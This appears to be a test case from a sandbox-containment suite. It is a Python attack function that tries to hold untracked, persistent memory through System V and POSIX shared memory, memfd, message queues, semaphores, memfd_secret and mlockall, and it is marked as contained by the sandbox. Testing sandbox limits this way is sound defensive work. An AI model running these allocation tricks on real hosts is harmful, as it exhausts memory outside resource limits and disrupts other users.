# Takes memory that outlives a process and is counted for nobody: System V and POSIX segments, message
# queues, semaphores, files in memory.
# contained: passed
# in the open: succeeds
import ctypes
import mmap


def attack():
    libc = ctypes.CDLL(None, use_errno=True)

    def system_v():
        create, remove = 0o1600, 0
        segment = syscall("shmget", 0, TARGET["memory_bytes"], create)
        libc.shmctl(segment, remove, None)
        return f"segment {segment}"

    def memory_file():
        fd = syscall("memfd_create", b"hostile", 0)
        os.ftruncate(fd, 2 * TARGET["memory_bytes"])
        return fd

    def posix():
        fd = os.open("/dev/shm/hostile", os.O_CREAT | os.O_RDWR)
        os.unlink("/dev/shm/hostile")
        return fd

    def message_queue():
        fd = syscall("mq_open", b"hostile", os.O_CREAT | os.O_RDWR, 0o600, 0)
        libc.mq_unlink(b"/hostile")
        return fd

    return first(
        {
            "System V": system_v,
            "memory file": memory_file,
            "POSIX": posix,
            "message queue": message_queue,
            "messages": lambda: libc.msgctl(syscall("msgget", 0, 0o1600), 0, None),
            "semaphores": lambda: libc.semctl(syscall("semget", 0, 99, 0o1600), 0, 0),
            "secret memory": lambda: syscall("memfd_secret", 0),
            "locked": lambda: mmap.mmap(-1, 64 << 20) and syscall("mlockall", 2),
        }
    )
